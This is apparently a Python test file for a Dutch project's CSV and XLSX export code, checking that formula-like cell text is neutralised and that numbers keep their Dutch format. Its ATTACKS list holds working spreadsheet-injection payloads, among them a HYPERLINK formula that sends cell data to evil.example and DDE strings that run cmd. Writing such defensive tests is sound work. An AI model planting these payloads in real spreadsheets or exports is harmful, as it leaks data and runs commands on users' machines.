"""Every CSV and XLSX cell is harmless in a spreadsheet (issue 12, item 4): the attacks replayed."""

import io

import openpyxl
import pytest

from wijkinzicht.core.exports import csv_text, dangerous, safe_cell, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",  # missed by the old guard: "-" followed by a digit
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # after leading spaces
    "\u00a0=1+1",  # after a no-break space
    "\n-1+1",
    "\uff1d1+1",  # full-width equals sign, which some spreadsheets normalise
]
HARMLESS = ["-5", "+3,2", "12.5", "Koffie=lekker", "", "Mevr. @home", "- streepje"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert dangerous(text)
    assert safe_cell(text) == "'" + text
    line = csv_text([[text]])
    assert line.lstrip('"').startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(text):
    assert safe_cell(text) == text or text == "- streepje"


def test_numbers_stay_numbers_in_the_dutch_format():
    """Issue 14: the reach CSV wrote "1201.0", which Dutch Excel reads as 12010. The ";" file is the
    Dutch variant (decimal comma); a "," file keeps the decimal point."""
    assert csv_text([[-5, 2.5, None, 1201.0, -0.25]]) == '-5;2,5;;1201;-0,25\r\n'
    assert csv_text([[-5, 2.5, 1201.0]], delimiter=",") == "-5,2.5,1201\r\n"


def test_xlsx_writes_every_text_as_text_never_as_a_formula():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([("Blad", [["kop"], *[[a] for a in ATTACKS], [7]])])))
    cells = [row[0] for row in book.active.iter_rows()]
    for cell, text in zip(cells[1:], ATTACKS, strict=False):
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert cells[-1].value == 7 and cells[-1].data_type == "n"
    # the file itself holds no formula element
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([("Blad", [["=1+1"]])]))) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
